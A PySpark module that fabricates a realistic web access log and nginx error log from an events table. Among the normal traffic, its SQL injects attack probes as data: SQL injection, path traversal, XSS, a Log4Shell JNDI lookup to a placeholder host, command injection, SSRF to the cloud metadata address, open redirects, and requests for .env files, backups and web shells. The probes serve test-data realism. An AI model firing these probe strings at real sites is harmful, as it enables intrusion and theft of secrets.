"""A web request log derived from an ``events`` table.

Every event becomes one page request plus the follow-up requests its type
implies (assets, reloads, redirects, forms, orders, probes ...), so a table of
application events can be analysed by the same operators as a server log.
The SELECT list is plain ANSI SQL and grows linearly with ``events``.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame

# (step, seconds after the event)
STEPS = [(0, 0), (1, 1), (2, 3), (3, 2), (4, 40), (5, 43), (6, 5), (7, 7), (8, 20), (9, 25), (10, 50), (11, 60),
         (12, 70), (13, 1), (14, 15), (15, 9), (16, 11), (17, 13), (18, 12), (19, 2000)]

SELECT_LIST = """
  e*20+step AS req_id, t0+dt AS ts,
  concat('10.', CAST(u%5 AS VARCHAR(9)), '.0.', CAST(u%200+1 AS VARCHAR(9))) AS ip,
  CASE WHEN e%97=0 THEN '10.9.9.9' WHEN e%89=0 THEN 'copy-site.com' WHEN u%30=13 THEN 'shop.site.ru' ELSE 'site.ru' END AS vhost,
  CASE WHEN u%20=9 THEN 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
   WHEN u%20=19 THEN 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)'
   WHEN u%20=8 THEN 'curl/8.4.0' WHEN u%20=18 THEN 'python-requests/2.31'
   WHEN u%20=7 THEN 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)'
   WHEN u%20=17 THEN 'Mozilla/5.0 (compatible; GPTBot/1.1; +https://openai.com/gptbot)'
   WHEN u%20=6 THEN 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)'
   WHEN u%20=16 THEN 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Version/17.1 Mobile/15E148 Safari/604.1'
   WHEN u%20=5 THEN 'Mozilla/5.0 (Linux; Android 13; SM-A525F; wv) AppleWebKit/537.36 Chrome/121.0 Mobile Safari/537.36 Telegram-Android'
   WHEN u%20=15 THEN 'Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 Chrome/49.0 Safari/537.36'
   WHEN u%20=4 THEN '-'
   WHEN u%33=2 THEN concat('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/', CAST(100+e%6 AS VARCHAR(9)), '.0 Safari/537.36')
   ELSE concat('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/', CAST(120+u%4 AS VARCHAR(9)), '.0 Safari/537.36') END AS ua,
  CASE WHEN step IN (4,10) OR (step=14 AND e%5=0) THEN 'POST' WHEN u%20=8 AND e%9=0 THEN 'HEAD' WHEN step=6 AND e%5=0 THEN 'PROPFIND' ELSE 'GET' END AS method,
  CASE step WHEN 1 THEN '/static/app.css' WHEN 3 THEN concat('/catalog/item-', CAST(v%40 AS VARCHAR(9)), '/') WHEN 4 THEN '/contacts/send/'
   WHEN 5 THEN '/thanks/' WHEN 6 THEN CASE e%4 WHEN 0 THEN '/.env' WHEN 1 THEN '/.git/config' WHEN 2 THEN '/wp-login.php' ELSE '/backup/old.bak' END
   WHEN 7 THEN '/search/' WHEN 8 THEN concat('/catalog/filter/brand-is-b', CAST(v%7 AS VARCHAR(9)), '/') WHEN 9 THEN '/callback/'
   WHEN 10 THEN '/cart/add/' WHEN 11 THEN '/cart/checkout/' WHEN 12 THEN '/cart/success/'
   WHEN 13 THEN concat('/upload/img-', CAST(v%30 AS VARCHAR(9)), '.jpg')
   WHEN 14 THEN CASE WHEN e%5<2 THEN '/admin/' ELSE concat('/admin/orders/', CAST(v%9 AS VARCHAR(9))) END
   WHEN 15 THEN concat('/upload/shell', CAST(e%3 AS VARCHAR(9)), '.php') WHEN 16 THEN '/go/'
   WHEN 17 THEN CASE e%3 WHEN 0 THEN '/backup.zip' WHEN 1 THEN '/db.sql' ELSE '/site.tar.gz' END
   WHEN 18 THEN CASE WHEN u%20=4 THEN '/wp-cron.php' WHEN e%2=0 THEN '/sitemap.xml' ELSE '/robots.txt' END WHEN 19 THEN '/.well-known/assetlinks.json'
   ELSE CASE WHEN v%11=0 OR u%40=7 THEN '/' ELSE concat('/catalog/item-', CAST(v%40 AS VARCHAR(9)), CASE WHEN t='signup' THEN '' ELSE '/' END) END END AS base,
  CASE step WHEN 5 THEN 'success=1' WHEN 7 THEN CASE e%6 WHEN 0 THEN 'q=1%27+union+select+1,2--' WHEN 1 THEN 'q=../../../../etc/passwd' WHEN 2 THEN 'q=<script>alert(1)</script>'
     WHEN 3 THEN 'q=$%7Bjndi:ldap://x.example/a%7D' WHEN 4 THEN 'q=1;cat+/etc/hosts' ELSE 'url=http://169.254.169.254/latest/meta-data/' END
   WHEN 8 THEN concat('color=c', CAST(v%5 AS VARCHAR(9)), '&size=s', CAST(v%3 AS VARCHAR(9)))
   WHEN 9 THEN CASE WHEN e%40=0 THEN concat('name=Ivan&phone=%2B7916', CAST(1000000+e AS VARCHAR(12))) ELSE concat('email=user', CAST(u AS VARCHAR(12)), '%40mail.ru&token=abcdef', CAST(e AS VARCHAR(12))) END
   WHEN 12 THEN concat('order_id=', CAST(e-e%8 AS VARCHAR(12))) WHEN 16 THEN 'url=https%3A%2F%2Fevil.example%2Fx'
   WHEN 0 THEN CASE WHEN t='click' THEN CASE e%5 WHEN 0 THEN concat('utm_source=yandex&utm_medium=cpc&utm_campaign=c', CAST(v%5 AS VARCHAR(9)), '&utm_content=ad', CAST(v%3 AS VARCHAR(9)), '&yclid=', CAST(e AS VARCHAR(12)))
       WHEN 1 THEN concat('gclid=g', CAST(e AS VARCHAR(12))) WHEN 2 THEN concat('utm_source=vk&utm_campaign={campaign_id}&utm_term=t', CAST(v%4 AS VARCHAR(9)))
       WHEN 3 THEN 'utm_source=news&utm_medium=email' ELSE 'utm_source=partner' END ELSE '' END
   WHEN 2 THEN CASE WHEN t='click' AND e%5=1 THEN concat('gclid=g', CAST(e AS VARCHAR(12))) ELSE '' END
   ELSE '' END AS query,
  CASE WHEN step=4 THEN CASE WHEN e%17=0 THEN 500 WHEN e%19=0 THEN 200 ELSE 302 END WHEN step=6 THEN 404
   WHEN step=7 THEN CASE WHEN e%9=0 THEN 500 WHEN e%5=0 THEN 403 ELSE 200 END
   WHEN step=11 AND e%10=0 THEN 502 WHEN step=13 AND v%10=9 THEN 404 WHEN step=13 AND e%6=0 THEN 304
   WHEN step=14 THEN CASE WHEN u%3=0 THEN 403 ELSE 200 END WHEN step=15 THEN CASE WHEN e%5=0 THEN 200 ELSE 404 END WHEN step=16 THEN 302
   WHEN step=17 THEN CASE WHEN e%9=0 THEN 200 ELSE 404 END WHEN step=18 THEN CASE WHEN e%7=0 THEN 301 WHEN e%5=0 THEN 503 ELSE 200 END
   WHEN step IN (0,2) AND t='signup' THEN 301 WHEN step IN (0,2) AND t='error' THEN CASE WHEN v%2=0 THEN 404 WHEN e%3=0 THEN 499 ELSE 500 END
   WHEN step=0 AND e%31=0 THEN 403 ELSE 200 END AS status,
  CASE WHEN step=13 THEN 4000+v*3000 WHEN step=14 AND e%5<2 THEN 5000+(e%3)*50 WHEN step IN (6,15,17) THEN 900+e%40 WHEN step=0 AND v%13=0 THEN 200+v%50 ELSE 1000+v*7+step END AS bytes,
  CASE WHEN step=0 THEN CASE WHEN t='view' THEN 'https://www.google.com/' ELSE CASE e%10 WHEN 1 THEN 'https://yandex.ru/search/' WHEN 2 THEN 'https://vk.com/' WHEN 3 THEN 'https://chatgpt.com/'
      WHEN 4 THEN 'https://www.avito.ru/x' WHEN 5 THEN 'https://blog.example.org/post' WHEN 6 THEN 'https://site.ru/catalog/?from=menu' WHEN 7 THEN 'https://yandex.ru/maps/org' ELSE '-' END END
   WHEN step IN (6,7,15,17,18,19) OR (step=4 AND e%23=0) THEN '-' WHEN step=13 AND e%11=0 THEN concat('https://other', CAST(e%3 AS VARCHAR(9)), '.example/page')
   ELSE concat('https://site.ru/catalog/item-', CAST(v%40 AS VARCHAR(9)), '/') END AS ref
"""

# every third day the day's errors fall into two minutes of each half-day: outages
T0 = """CASE WHEN event_type='error' AND CAST(floor(t_raw / 86400) AS BIGINT) % 3 = 0
  THEN t_raw - t_raw % 43200 + CAST(floor((t_raw % 43200) / 360) AS BIGINT) ELSE t_raw END"""

CONDITION = """
  (u%40<>7 OR step=0) AND (step=0 OR (step=1 AND u%5<>0) OR (step=2 AND e%7=0) OR (step=3 AND t='signup') OR (step=4 AND t='purchase')
  OR (step=5 AND t='purchase' AND v%3<>0) OR (step=6 AND u%50=0) OR (step=7 AND u%25=3 AND e%7<5)
  OR (step=8 AND t='view' AND e%3=0) OR (step=9 AND t='click' AND e%20=0) OR (step=10 AND t='purchase' AND e%2=0)
  OR (step=11 AND t='purchase' AND e%2=0) OR (step=12 AND t='purchase' AND e%4=0) OR (step=13 AND u%5<>0 AND e%2=0)
  OR (step=14 AND u%40=1) OR (step=15 AND u%75=7) OR (step=16 AND e%40=0) OR (step=17 AND u%60=11)
  OR (step=18 AND (u%10 IN (9,6,7) OR u%80=4)) OR (step=19 AND u%20=16 AND e%3=0))
"""

ERROR_LINE = """
  concat(CAST(year(lt) AS VARCHAR(4)), '/', lpad(CAST(month(lt) AS VARCHAR(2)), 2, '0'), '/', lpad(CAST(day(lt) AS VARCHAR(2)), 2, '0'), ' ',
   lpad(CAST(hour(lt) AS VARCHAR(2)), 2, '0'), ':', lpad(CAST(minute(lt) AS VARCHAR(2)), 2, '0'), ':', lpad(CAST(CAST(floor(second(lt)) AS INT) AS VARCHAR(2)), 2, '0'),
   ' [', CASE WHEN event_id%5=0 THEN 'warn' ELSE 'error' END, '] ', CAST(100+event_id%7 AS VARCHAR(9)), '#0: *', CAST(event_id AS VARCHAR(12)), ' ',
   CASE event_id%8 WHEN 0 THEN 'upstream timed out (110: Connection timed out) while reading response header from upstream'
    WHEN 1 THEN 'connect() failed (111: Connection refused) while connecting to upstream'
    WHEN 2 THEN 'FastCGI sent in stderr: PHP message: PHP Fatal error:  Uncaught Error in /var/www/site/index.php'
    WHEN 3 THEN 'FastCGI sent in stderr: PHP message: PHP Warning:  Undefined variable'
    WHEN 4 THEN 'SQLSTATE[HY000] [2002] Connection refused' WHEN 5 THEN 'open() failed (2: No such file or directory)'
    WHEN 6 THEN 'limiting requests, excess: 20.5 by zone one' ELSE 'something unusual happened' END,
   ', client: 10.', CAST(user_id%5 AS VARCHAR(9)), '.0.', CAST(user_id%200+1 AS VARCHAR(9)), ', server: site.ru, request: "GET /catalog/item-',
   CAST(CAST(floor(value) AS BIGINT)%40 AS VARCHAR(9)), '/ HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.sock:", host: "',
   CASE WHEN event_id%9=0 THEN 'copy-site.com' ELSE 'site.ru' END, '", referrer: "https://site.ru/"')
"""


def requests_from_events(events: DataFrame) -> DataFrame:
    """Requests with the columns of a parsed access log; one row in, at most nineteen rows out."""
    steps = ", ".join(f"struct({s} AS step, {d} AS dt)" for s, d in STEPS)
    base = _timed(events).selectExpr(
        "event_id AS e", "user_id AS u", "event_type AS t", "CAST(floor(value) AS BIGINT) AS v", "t0",
        f"inline(array({steps}))")
    return base.where(CONDITION).selectExpr(*_split_top_level(SELECT_LIST))


def _spark(text: str) -> str:
    """ANSI VARCHAR(n) casts as Spark strings."""
    return re.sub(r"VARCHAR\(\d+\)", "STRING", text)


def _timed(events: DataFrame) -> DataFrame:
    raw = events.selectExpr("*", "unix_timestamp(CAST(ts AS TIMESTAMP)) AS t_raw")
    return raw.selectExpr("event_id", "user_id", "event_type", "value", f"{T0} AS t0")


def _split_top_level(select_list: str) -> list[str]:
    """Split a SELECT list at commas outside brackets and quotes, for selectExpr."""
    items, depth, quoted, current = [], 0, False, ""
    for ch in _spark(select_list):
        quoted ^= ch == "'"
        depth += 0 if quoted else {"(": 1, ")": -1}.get(ch, 0)
        if ch == "," and depth == 0 and not quoted:
            items.append(current)
            current = ""
        else:
            current += ch
    return [i.strip() for i in [*items, current]]


def error_lines_from_events(events: DataFrame) -> DataFrame:
    """nginx error-log lines, one per 'error' event."""
    lines = _timed(events.where("event_type = 'error'")).selectExpr("*", "timestamp_seconds(t0) AS lt")
    return lines.selectExpr("event_id AS line_no", f"{_spark(ERROR_LINE)} AS line")
